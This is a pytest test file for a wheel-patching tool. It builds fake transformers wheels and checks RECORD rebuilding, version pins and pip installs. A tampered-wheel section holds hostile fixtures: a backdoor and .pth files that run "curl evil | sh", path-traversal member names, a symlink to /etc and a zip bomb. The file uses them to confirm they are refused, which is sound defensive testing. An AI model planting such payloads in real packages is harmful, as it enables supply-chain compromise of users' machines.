"""patch-wheel on a small fake transformers wheel: content, RECORD, version pins, and real pip installs."""

from __future__ import annotations

import base64
import csv
import difflib
import hashlib
import io
import json
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Dict

import pytest
from packaging.specifiers import SpecifierSet
from packaging.version import Version

from ascend_env.cli import main
from ascend_env.exceptions import EnvironmentProblem, UsageError
from ascend_env.patching.manifest import load_manifest
from ascend_env.patching.wheels import patch_wheel

TARGET = "transformers/pytorch_utils.py"
BEFORE = (
    "import torch\n\n\ndef isin(elements, test_elements):\n    return torch.isin(elements, test_elements)\n"
)
AFTER = BEFORE.replace(
    "    return torch.isin",
    '    if elements.device.type not in ("cpu", "cuda"):\n'
    "        return (elements.reshape(-1, 1) == test_elements.reshape(-1)).any(1).reshape(elements.shape)\n"
    "    return torch.isin",
)


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def build_wheel(directory: Path, version: str, files: Dict[str, str]) -> Path:
    """A wheel as a build backend writes it: files, then .dist-info with METADATA, WHEEL and RECORD."""
    info = f"transformers-{version}.dist-info"
    contents = dict(files)
    contents[f"{info}/METADATA"] = (
        f"Metadata-Version: 2.1\nName: transformers\nVersion: {version}\n\nA fake.\n"
    )
    contents[f"{info}/WHEEL"] = (
        "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    contents[f"{info}/top_level.txt"] = "transformers\n"
    record = "".join(
        f"{name},{record_hash(text.encode())},{len(text.encode())}\n" for name, text in contents.items()
    )
    contents[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
    path = directory / f"transformers-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in contents.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 2, 3, 4, 6)), text)
    return path


FILES = {"transformers/__init__.py": "__version__ = 'fake'\n", TARGET: BEFORE}


@pytest.fixture
def patches(tmp_path: Path) -> Path:
    """A patches directory whose manifest lists release 1.0.0 with one patch of pytorch_utils.py."""
    directory = tmp_path / "patches"
    (directory / "transformers").mkdir(parents=True)
    diff = "".join(
        difflib.unified_diff(
            BEFORE.splitlines(keepends=True), AFTER.splitlines(keepends=True), f"a/{TARGET}", f"b/{TARGET}"
        )
    )
    header = "".join(f"# {key}: a test\n" for key in ("Changes", "Why", "Upstream", "Remove-when"))
    (directory / "transformers" / "demo-isin-v1.patch").write_text("# Patch: demo-isin-v1\n" + header + diff)
    manifest = {
        "schema": 1,
        "distribution": "transformers",
        "generated_by": "tools/check_patches.py",
        "nothing_to_do": {"below": "0.5", "from": "2.0", "why": "a test"},
        "patches": {
            "demo-isin-v1": {
                "path": "transformers/demo-isin-v1.patch",
                "target": TARGET,
                "verified_on": ["1.0.0"],
            }
        },
        "releases": {
            "1.0.0": {
                TARGET: {
                    "patch": "demo-isin-v1",
                    "before": sha256(BEFORE.encode()),
                    "after": sha256(AFTER.encode()),
                }
            }
        },
    }
    (directory / "manifest.json").write_text(json.dumps(manifest))
    return directory


@pytest.fixture
def original(tmp_path: Path) -> Path:
    (tmp_path / "in").mkdir()
    return build_wheel(tmp_path / "in", "1.0.0", FILES)


def read(wheel: Path) -> Dict[str, bytes]:
    with zipfile.ZipFile(wheel) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_patched_wheel_has_the_patched_file_a_renamed_dist_info_and_a_fresh_record(
    tmp_path, patches, original
):
    result = patch_wheel(original, tmp_path / "out", directory=patches)
    assert result.path == tmp_path / "out" / "transformers-1.0.0+ascend.1-py3-none-any.whl"
    assert result.version == "1.0.0+ascend.1" and result.original_version == "1.0.0"
    assert result.files == {
        TARGET: {"patch": "demo-isin-v1", "before": sha256(BEFORE.encode()), "after": sha256(AFTER.encode())}
    }
    old, new = read(original), read(result.path)
    info = "transformers-1.0.0+ascend.1.dist-info"
    assert new[TARGET] == AFTER.encode()
    assert new["transformers/__init__.py"] == old["transformers/__init__.py"]
    assert not any(name.startswith("transformers-1.0.0.dist-info/") for name in new)
    assert new[f"{info}/WHEEL"] == old["transformers-1.0.0.dist-info/WHEEL"]
    assert b"\nVersion: 1.0.0+ascend.1\n" in new[f"{info}/METADATA"]
    assert list(new)[-1] == f"{info}/RECORD"
    rows = list(csv.reader(io.StringIO(new[f"{info}/RECORD"].decode())))
    assert sorted(row[0] for row in rows) == sorted(new)
    for name, digest, size in rows:
        if name == f"{info}/RECORD":
            assert (digest, size) == ("", "")
        else:
            assert (digest, int(size)) == (record_hash(new[name]), len(new[name]))


def test_the_same_wheel_gives_the_same_bytes_and_the_build_number_names_it(tmp_path, patches, original):
    first = patch_wheel(original, tmp_path / "a", directory=patches).path.read_bytes()
    second = patch_wheel(original, tmp_path / "b", directory=patches).path.read_bytes()
    assert first == second
    third = patch_wheel(original, tmp_path / "c", directory=patches, build=3)
    assert third.path.name == "transformers-1.0.0+ascend.3-py3-none-any.whl"


def test_version_pins_accept_the_patched_build_and_prefer_it():
    patched = Version("1.0.0+ascend.1")
    assert SpecifierSet("==1.0.0").contains(patched)
    assert SpecifierSet("~=1.0").contains(patched)
    assert SpecifierSet(">=0.9,<1.1").contains(patched)
    assert not SpecifierSet("==1.0.0+other").contains(patched)
    assert Version("1.0.0") < patched < Version("1.0.0+ascend.2") < Version("1.0.1")


def test_refuses_a_wheel_whose_file_is_not_the_released_text(tmp_path, patches):
    (tmp_path / "in").mkdir()
    wheel = build_wheel(tmp_path / "in", "1.0.0", {**FILES, TARGET: BEFORE + "# edited\n"})
    with pytest.raises(EnvironmentProblem, match="differs from transformers 1.0.0's file"):
        patch_wheel(wheel, tmp_path / "out", directory=patches)
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())


@pytest.mark.parametrize(
    ("version", "error", "message"),
    [
        ("2.1.0", UsageError, "needs no patch"),
        ("0.4", UsageError, "needs no patch"),
        ("1.5.0", EnvironmentProblem, "not a release this ascend-env has patches for"),
        ("1.0.0+ascend.1", UsageError, "is a local build"),
    ],
)
def test_refuses_versions_without_patches(tmp_path, patches, version, error, message):
    (tmp_path / "in").mkdir()
    wheel = build_wheel(tmp_path / "in", version, FILES)
    with pytest.raises(error, match=message):
        patch_wheel(wheel, tmp_path / "out", directory=patches)


def test_refuses_other_projects_bad_names_and_build_numbers(tmp_path, patches, original):
    other = tmp_path / "in" / "tokenizers-1.0.0-py3-none-any.whl"
    other.write_bytes(original.read_bytes())
    with pytest.raises(UsageError, match="not transformers"):
        patch_wheel(other, tmp_path / "out", directory=patches)
    with pytest.raises(UsageError, match="not a wheel file name"):
        patch_wheel(tmp_path / "in" / "transformers.zip", tmp_path / "out", directory=patches)
    with pytest.raises(UsageError, match="build number"):
        patch_wheel(original, tmp_path / "out", directory=patches, build=0)


def test_cli_writes_json_and_exits_2_for_a_missing_file(tmp_path, patches, original, capsys):
    out = tmp_path / "out"
    argv = ["patch-wheel", str(original), "-o", str(out), "--patches-dir", str(patches), "--json"]
    assert main(argv) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["ok"] is True and report["version"] == "1.0.0+ascend.1"
    assert Path(report["wheel"]).is_file()
    assert main(["patch-wheel", str(tmp_path / "missing.whl"), "--patches-dir", str(patches)]) == 2
    assert "is not a file" in capsys.readouterr().err


def pip(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "pip", "--disable-pip-version-check", "--no-input", *args],
        capture_output=True,
        text=True,
        check=False,
    )


def test_pip_installs_the_patched_wheel_into_a_target(tmp_path, patches, original):
    wheel = patch_wheel(original, tmp_path / "out", directory=patches).path
    done = pip(
        "install", "--no-deps", "--no-index", "--no-compile", "--target", str(tmp_path / "site"), str(wheel)
    )
    assert done.returncode == 0, done.stderr
    site = tmp_path / "site"
    assert (site / TARGET).read_text() == AFTER
    metadata = (site / "transformers-1.0.0+ascend.1.dist-info" / "METADATA").read_text()
    assert "Version: 1.0.0+ascend.1" in metadata


def test_pip_installs_it_over_the_original_and_a_pin_resolves_to_it(tmp_path, patches, original):
    patch_wheel(original, original.parent, directory=patches)  # both wheels now in one "index"
    env = tmp_path / "venv"
    made = subprocess.run(
        [sys.executable, "-m", "venv", "--without-pip", str(env)], capture_output=True, text=True
    )
    assert made.returncode == 0, made.stderr
    python = env / "bin" / "python"
    common = ("--python", str(python), "install", "--no-deps", "--no-index", "--no-compile")
    done = pip(*common, str(original))
    assert done.returncode == 0, done.stderr
    done = pip(*common, "--find-links", str(original.parent), "transformers==1.0.0", "--upgrade")
    assert done.returncode == 0, done.stderr
    shown = subprocess.run(
        [str(python), "-c", "import importlib.metadata as m; print(m.version('transformers'))"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert shown.stdout.strip() == "1.0.0+ascend.1"
    site = next((env / "lib").glob("python3*/site-packages"))
    assert (site / TARGET).read_text() == AFTER
    assert sorted(p.name for p in site.glob("transformers-*.dist-info")) == [
        "transformers-1.0.0+ascend.1.dist-info"
    ]


def test_the_shipped_manifest_loads_for_patch_wheel():
    manifest = load_manifest()
    assert manifest.lookup("4.46.3+ascend.1") == manifest.lookup("4.46.3")


# -- damaged and oversized wheels -----------------------------------------------------------------


def damage(wheel: Path, member: str, how: str) -> None:
    """Rewrite ``member``'s bytes inside ``wheel``: a flipped byte in a stored member (its CRC no
    longer matches), or garbage in place of a deflated member's compressed stream."""
    with zipfile.ZipFile(wheel) as archive:
        contents = {info: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(wheel, "w") as archive:
        for info, data in contents.items():
            stored = how == "crc" and info.filename == member
            info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    with zipfile.ZipFile(wheel) as archive:
        info = archive.getinfo(member)
    raw = bytearray(wheel.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    if how == "crc":
        raw[start] ^= 0x01
    else:
        raw[start : start + info.compress_size] = b"\xff" * info.compress_size
    wheel.write_bytes(bytes(raw))


@pytest.mark.parametrize("how", ["crc", "deflate"])
@pytest.mark.parametrize("member", [TARGET, "transformers/__init__.py"])  # read, or streamed
def test_a_damaged_member_is_refused_and_leaves_no_output(tmp_path, patches, original, capsys, member, how):
    damage(original, member, how)
    out = tmp_path / "out"
    argv = ["patch-wheel", str(original), "-o", str(out), "--patches-dir", str(patches)]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert f"{member} in {original} is damaged" in err and "fix: " in err and "Traceback" not in err
    assert not out.exists() or list(out.iterdir()) == []


def test_a_failed_rebuild_leaves_the_earlier_wheel_whole_and_no_temporary_file(
    tmp_path, patches, original, capsys
):
    out = tmp_path / "out"
    earlier = patch_wheel(original, out, directory=patches).path
    data = earlier.read_bytes()
    damage(original, "transformers/__init__.py", "deflate")  # fails while the copy is being written
    argv = ["patch-wheel", str(original), "-o", str(out), "--patches-dir", str(patches)]
    assert main(argv) == 2
    assert "is damaged" in capsys.readouterr().err
    assert list(out.iterdir()) == [earlier] and earlier.read_bytes() == data


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path, patches, capsys):
    from ascend_env.patching import wheels

    (tmp_path / "in").mkdir()
    bomb = build_wheel(tmp_path / "in", "1.0.0", {**FILES, "transformers/zeros.bin": ""})
    with zipfile.ZipFile(bomb) as archive:
        contents = {info: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in contents.items():
            info.compress_type = zipfile.ZIP_DEFLATED
            zeros = info.filename == "transformers/zeros.bin"
            archive.writestr(info, b"\0" * (wheels.MEMBER_LIMIT + 1) if zeros else data)
    assert bomb.stat().st_size < wheels.MEMBER_LIMIT // 100  # it compresses a thousandfold
    argv = ["patch-wheel", str(bomb), "-o", str(tmp_path / "out"), "--patches-dir", str(patches)]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert f"transformers/zeros.bin in {bomb} unpacks to {wheels.MEMBER_LIMIT + 1} bytes" in err


def test_members_adding_up_past_the_total_limit_are_refused(tmp_path, patches, original, capsys, monkeypatch):
    from ascend_env.patching import wheels

    monkeypatch.setattr(wheels, "TOTAL_LIMIT", 100)
    argv = ["patch-wheel", str(original), "-o", str(tmp_path / "out"), "--patches-dir", str(patches)]
    assert main(argv) == 2
    assert "more than patch-wheel reads (100)" in capsys.readouterr().err


# -- tampered wheels ------------------------------------------------------------------------------

INFO = "transformers-1.0.0.dist-info"


def rewrite(wheel: Path, *, add=(), drop=(), record=None) -> None:
    """Rewrite ``wheel``: members ``add`` (``(name or ZipInfo, bytes)``; a name replaces the member
    of that name, a ZipInfo is appended beside it) at the end, ``drop`` left out, RECORD's text
    passed through ``record``."""
    with zipfile.ZipFile(wheel) as archive:
        contents = [(info, archive.read(info)) for info in archive.infolist()]
    replaced = {item for item, _ in add if isinstance(item, str)} | set(drop)
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in contents:
            if info.filename in replaced:
                continue
            if info.filename == f"{INFO}/RECORD" and record is not None:
                data = record(data.decode()).encode()
            archive.writestr(info, data)
        for item, data in add:
            archive.writestr(item, data)


def row(name: str, data: bytes) -> str:
    return f"{name},{record_hash(data)},{len(data)}\n"


def listed(name: str, data: bytes) -> dict:
    """A member added with a true RECORD row: only the layout can refuse it."""
    return dict(add=[(name, data)], record=lambda text: text + row(name, data))


def symlink(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = 0o120777 << 16
    return info


INIT = "transformers/__init__.py"
INIT_ROW = row(INIT, FILES[INIT].encode())
BACKDOOR = b"__version__ = 'fake'\nimport os; os.system('curl evil | sh')\n"
EVIL_PTH = b"import os; os.system('curl evil | sh')\n"
METADATA = b"Metadata-Version: 2.1\nName: transformers\nVersion: 1.0.0\nRequires-Dist: evil\n"
TAMPERED = {
    # a member edited, its RECORD row left: what patch-wheel used to launder with a fresh row
    "edited member": (dict(add=[(INIT, BACKDOOR)]), f"{INIT} differs from its RECORD row"),
    "edited target": (dict(add=[(TARGET, BEFORE.encode() + b"import os\n")]), "differs from its RECORD"),
    "edited METADATA": (dict(add=[(f"{INFO}/METADATA", METADATA)]), "METADATA differs from its RECORD row"),
    "parent path": (dict(add=[("transformers/../../evil.py", b"x")]), "named outside the wheel's tree"),
    "absolute path": (dict(add=[("/tmp/evil.py", b"x")]), "named outside the wheel's tree"),
    "backslash": (dict(add=[("transformers\\..\\evil.py", b"x")]), "named outside the wheel's tree"),
    "symlink": (
        dict(add=[(symlink("transformers/m"), b"/etc")], record=lambda t: t + row("transformers/m", b"/etc")),
        "is a symbolic link",
    ),
    "top-level .pth": (listed("evil.pth", EVIL_PTH), "evil.pth, which the release does not have"),
    ".data .pth": (listed("transformers-1.0.0.data/purelib/x.pth", EVIL_PTH), "which the release does not"),
    "nested .pth": (listed("transformers/evil.pth", EVIL_PTH), "a .pth file"),
    "another package": (listed("evil/__init__.py", b"x"), "evil/__init__.py, which the release does not"),
    "not in RECORD": (dict(add=[("transformers/extra.py", b"x")]), "extra.py has no hash in its RECORD"),
    "missing member": (dict(drop=[INIT]), f"lists {INIT}, which the wheel does not hold"),
    "duplicate member": (dict(add=[(zipfile.ZipInfo(INIT), BACKDOOR)]), "in the archive twice"),
    "md5 in RECORD": (dict(record=lambda t: t.replace(INIT_ROW, f"{INIT},md5=abc,22\n")), "hash is md5"),
    "wrong size": (dict(record=lambda t: t.replace(INIT_ROW, INIT_ROW[:-3] + "99\n")), "from its RECORD"),
}


@pytest.fixture(scope="module")
def counts(request):
    from reliability_support import summary

    return summary(request.config, "hostile wheels")


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("case", sorted(TAMPERED))
def test_a_tampered_wheel_is_refused_and_nothing_written(tmp_path, patches, original, capsys, counts, case):
    changes, message = TAMPERED[case]
    rewrite(original, **changes)
    out = tmp_path / "out" / "dist"
    argv = ["patch-wheel", str(original), "-o", str(out), "--patches-dir", str(patches)]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert f"{original} is not the transformers 1.0.0 wheel as released" in err, err
    assert message in err and "fix: download the release again" in err and "Traceback" not in err
    assert not (tmp_path / "out").exists()
    counts.bad_inputs += 1
    counts.runs += 1


def test_a_tampered_wheel_with_json_gives_one_error_document(tmp_path, patches, original, capsys):
    rewrite(original, add=[(INIT, BACKDOOR)])
    out = tmp_path / "out"
    argv = ["patch-wheel", str(original), "-o", str(out), "--patches-dir", str(patches), "--json"]
    assert main(argv) == 2
    report = json.loads(capsys.readouterr().out)
    assert report["ok"] is False and "differs from its RECORD row" in report["problem"]


def test_signatures_and_directory_entries_of_a_released_wheel_pass(tmp_path, patches, original):
    rewrite(original, add=[(f"{INFO}/RECORD.jws", b"{}"), (zipfile.ZipInfo("transformers/"), b"")])
    result = patch_wheel(original, tmp_path / "out", directory=patches)
    assert not any(name.endswith("RECORD.jws") for name in read(result.path))


# An encrypted member, or a name flagged UTF-8 that is not, was a traceback (issue 42, item 8).
def set_flag(wheel: Path, member: str, bit: int) -> None:
    """Set general purpose flag ``bit`` of ``member`` in its local header and its central
    directory entry (what a zip tool writes for an encrypted member)."""
    raw = bytearray(wheel.read_bytes())
    name = member.encode()
    at = 0
    while True:
        at = raw.find(b"PK\x03\x04", at)
        if at < 0:
            break
        if raw[at + 30 : at + 30 + len(name)] == name:
            raw[at + 6] |= bit
        at += 4
    at = 0
    while True:
        at = raw.find(b"PK\x01\x02", at)
        if at < 0:
            break
        if raw[at + 46 : at + 46 + len(name)] == name:
            raw[at + 8] |= bit
        at += 4
    wheel.write_bytes(bytes(raw))


def bad_utf8_name(wheel: Path) -> None:
    """Add a member named with an é (written as UTF-8, flag bit 11 set), then make its name's
    bytes in both headers not UTF-8."""
    with zipfile.ZipFile(wheel, "a") as archive:
        archive.writestr("transformers/caf\u00e9.py", b"x = 1\n")
    wheel.write_bytes(wheel.read_bytes().replace(b"caf\xc3\xa9.py", b"caf\xff\xfe.py"))


BROKEN = {
    "the target encrypted": lambda wheel: set_flag(wheel, TARGET, 0x1),
    "a streamed member encrypted": lambda wheel: set_flag(wheel, "transformers/__init__.py", 0x1),
    "RECORD encrypted": lambda wheel: set_flag(wheel, f"{INFO}/RECORD", 0x1),
    "a name marked UTF-8 that is not": bad_utf8_name,
}


@pytest.mark.parametrize("json_out", [False, True], ids=["text", "json"])
@pytest.mark.parametrize("case", sorted(BROKEN))
def test_an_encrypted_member_or_a_bad_utf8_name_is_refused(
    tmp_path, patches, original, capsys, case, json_out
):
    BROKEN[case](original)
    out = tmp_path / "out"
    argv = ["patch-wheel", str(original), "-o", str(out), "--patches-dir", str(patches)]
    assert main([*argv, "--json"] if json_out else argv) == 2
    captured = capsys.readouterr()
    if json_out:
        report = json.loads(captured.out)
        problem = report["problem"]
        assert report["ok"] is False and report["fix"].startswith("download the release again")
    else:
        problem = captured.err
        assert "Traceback" not in captured.err and "fix: download the release again" in captured.err
    assert f"{original} is not the transformers 1.0.0 wheel as released: " in problem
    assert ("is encrypted" in problem) == ("encrypted" in case) and "nothing was written" in problem
    if "UTF-8" in case:
        assert "a member's name is marked UTF-8 but is not" in problem
    assert not out.exists()


# The patched wheel was 0600 whatever the umask (issue 42, item 12): it is made to be shared.
@pytest.mark.parametrize("umask", [0o022, 0o002, 0o077])
def test_the_patched_wheel_has_the_mode_the_umask_gives(tmp_path, patches, original, umask):
    before = os.umask(umask)
    try:
        result = patch_wheel(original, tmp_path / "out", directory=patches)
    finally:
        os.umask(before)
    assert stat.S_IMODE(result.path.stat().st_mode) == 0o666 & ~umask
    assert os.umask(before) == before  # the umask is as it was
